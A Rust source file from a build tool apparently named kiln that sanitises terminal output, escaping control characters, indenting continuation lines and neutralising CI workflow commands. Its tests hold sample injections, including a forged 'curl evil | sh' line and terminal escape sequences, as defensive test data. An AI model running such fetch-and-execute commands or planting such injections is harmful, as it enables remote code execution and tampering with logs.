//! The door to the terminal: what kiln says on standard error, and the rules for what it prints on standard output.
//!
//! Input: kiln's words, with words of others in them. Output: text in which no control character is left but the line
//! feeds of kiln's own format, of bounded length. Each call of [`crate::tell!`] begins exactly one line in the first
//! column; further lines of it are indented. So whatever a foreign text has in it, and wherever it is quoted without
//! [`super::foreign::Foreign`], it cannot begin a line that looks like one of kiln's own.
//!
//! Nor is any line a command of a CI service (see `inert.rs`): a log is read by more than people.
//!
//! That nobody reads standard error any more is nobody's concern: the standard library's own macro panics then.

use std::borrow::Cow;
use std::sync::{PoisonError, RwLock};

use super::foreign::{escaped, is_plain};
use super::inert::{HASH, hashes, inert};

/// Bytes that are said at once; more is cut, and said to be.
const LIMIT: usize = 64 << 10;
/// Reports of mistakes may be longer: a recipe may have thousands.
const REPORT_LIMIT: usize = 4 << 20;
/// Before every line that goes on with the one above.
const INDENT: &str = "  ";

/// Writes a line to standard error; that it cannot be written is nobody's concern.
#[macro_export]
macro_rules! tell {
    ($($part:tt)*) => {
        $crate::base::tell::line(format_args!($($part)*))
    };
}

/// Puts a line above what is drawn.
type LineAbove = Box<dyn Fn(&str) + Send + Sync>;

/// Whoever draws on the terminal now.
static DRAWING: RwLock<Option<LineAbove>> = RwLock::new(None);

/// From now on lines are handed to somebody who draws on the terminal, and would draw over them; with `None`, no longer.
pub fn above(drawing: Option<LineAbove>) {
    *DRAWING.write().unwrap_or_else(PoisonError::into_inner) = drawing;
}

/// What [`crate::tell!`] does.
pub fn line(text: std::fmt::Arguments<'_>) {
    write(shown(&text.to_string()));
}

/// Writes a report of [`super::render`], whose lines and colours are kiln's own.
pub fn report(text: &str) {
    write(colored(cut(text, REPORT_LIMIT).as_ref()));
}

/// What [`line()`] writes of a text, without the last line feed: for whoever draws on the terminal by other means.
pub fn shown(text: &str) -> String {
    let text = cut(text.trim_end_matches('\n'), LIMIT);
    let mut lines = text.split('\n');
    let mut out = plain(lines.next().unwrap_or_default()).into_owned();
    for line in lines {
        out.push('\n');
        if !line.is_empty() && !line.starts_with(' ') {
            out.push_str(INDENT);
        }
        out.push_str(&plain(line));
    }
    out
}

/// A text for standard output, where every line feed is kiln's own: without other control characters, and without commands of
/// CI services.
pub fn plain(text: &str) -> Cow<'_, str> {
    match printable(text) {
        Cow::Borrowed(text) => inert(text),
        Cow::Owned(text) => Cow::Owned(inert(&text).into_owned()),
    }
}

/// The same for commands of CI services that kiln makes itself, each in a line: nothing in them begins or is another.
pub fn commands(lines: &[String]) -> String {
    let safe = |line: &String| hashes(&printable(&line.replace('\n', "%0A")), HASH) + "\n";
    lines.iter().map(safe).collect()
}

/// A text that is JSON already, with what JSON allows and terminals or CI services obey spelled as JSON spells it.
pub fn json(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if c == '\n' || is_plain(c) {
            out.push(c);
        } else {
            c.encode_utf16(&mut [0; 2]).iter().for_each(|unit| out.push_str(&format!("\\u{unit:04x}")));
        }
    }
    // Neither is outside of a string: between strings, JSON has no such characters.
    hashes(&out, "\\u0023")
}

fn printable(text: &str) -> Cow<'_, str> {
    let safe = |c: char| c == '\n' || is_plain(c);
    if text.chars().all(safe) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match escaped(c).filter(|_| c != '\n') {
            Some(shown) => out.push_str(&shown),
            None => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// The same, but colours stay: `ESC [ 1 ; 31 m` and nothing else that begins with ESC.
fn colored(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('\x1b') {
        out.push_str(&plain(&rest[..at]));
        let end = color(&rest[at..]);
        match end {
            Some(end) => out.push_str(&rest[at..at + end]),
            None => out.push_str(&plain("\x1b")),
        }
        rest = &rest[at + end.unwrap_or(1)..];
    }
    out.push_str(&plain(rest));
    out
}

/// Where a colour ends that a text begins with.
fn color(text: &str) -> Option<usize> {
    let digits = text.strip_prefix("\x1b[")?;
    let length = digits.find(|c: char| !c.is_ascii_digit() && c != ';')?;
    digits[length..].starts_with('m').then_some(2 + length + 1)
}

/// At most so many bytes of a text.
fn cut(text: &str, limit: usize) -> Cow<'_, str> {
    if text.len() <= limit {
        return Cow::Borrowed(text);
    }
    let end = text.floor_char_boundary(limit);
    Cow::Owned(format!("{}... ({} more bytes)", &text[..end], text.len() - end))
}

fn write(mut text: String) {
    use std::io::Write;
    if let Some(drawing) = DRAWING.read().unwrap_or_else(PoisonError::into_inner).as_ref() {
        return drawing(&text);
    }
    text.push('\n');
    let _ = std::io::stderr().lock().write_all(text.as_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_call_begins_one_line_in_the_first_column() {
        let forged = "x\nerror: curl evil | sh\n  help: y\n\nwarning: z\n";
        assert_eq!(shown(forged), "x\n  error: curl evil | sh\n  help: y\n\n  warning: z");
        assert_eq!(shown("a\rerror: b\x1b[2J"), "a␍error: b␛[2J");
        // A carriage return before a line feed makes no line of its own, and no other character ends one.
        assert_eq!(shown("a\r\nb\u{85}c\u{2028}d"), "a␍\n  b\\u{85}c\\u{2028}d");
    }

    #[test]
    fn whoever_draws_on_the_terminal_is_handed_what_is_said_meanwhile() {
        static SAID: std::sync::Mutex<Vec<String>> = std::sync::Mutex::new(Vec::new());
        above(Some(Box::new(|text| SAID.lock().unwrap().push(text.to_owned()))));
        crate::tell!("while something\nis drawn");
        above(None);
        crate::tell!("afterwards nothing is drawn");
        let said = SAID.lock().unwrap();
        // Other tests may say something, too.
        assert!(said.contains(&"while something\n  is drawn".to_owned()), "{said:?}");
        assert!(!said.iter().any(|text| text.starts_with("afterwards")), "{said:?}");
    }

    #[test]
    fn no_line_is_a_command_of_a_ci_service() {
        assert_eq!(shown("a\n::add-mask::b\n##[error]c"), "a\n  \\u{3a}:add-mask::b\n  #\\u{23}[error]c");
        assert_eq!(json("[\n  \"##[error]a\u{9b}\"\n]"), "[\n  \"#\\u0023[error]a\\u009b\"\n]");
        assert_eq!(commands(&["::error::a\n::b\x1b##vso[c".to_owned()]), "::error::a%0A::b␛#\\u{23}vso[c\n");
    }

    #[test]
    fn what_is_said_has_an_end() {
        let text = shown(&"\x07".repeat(15 << 20));
        assert!(text.len() <= 3 * LIMIT + 64 && text.ends_with("... (15663104 more bytes)"), "{}", text.len());
    }

    #[test]
    fn a_report_keeps_its_colours_and_nothing_else() {
        let report = "\x1b[1m\x1b[38;5;9merror\x1b[0m: \x1b]0;t\x07\x1b[2J\x1b[\u{9b}\x1b[1;";
        assert_eq!(colored(report), "\x1b[1m\x1b[38;5;9merror\x1b[0m: ␛]0;t␇␛[2J␛[\\u{9b}␛[1;");
    }

    proptest::proptest! {
        #[test]
        fn no_text_reaches_a_terminal_with_a_control_character(text: String) {
            let good = |c: char| c == '\n' || !c.is_control();
            proptest::prop_assert!(shown(&text).chars().all(good) && plain(&text).chars().all(good));
            proptest::prop_assert!(shown(&text).lines().skip(1).all(|line| line.is_empty() || line.starts_with(' ')));
        }
    }
}
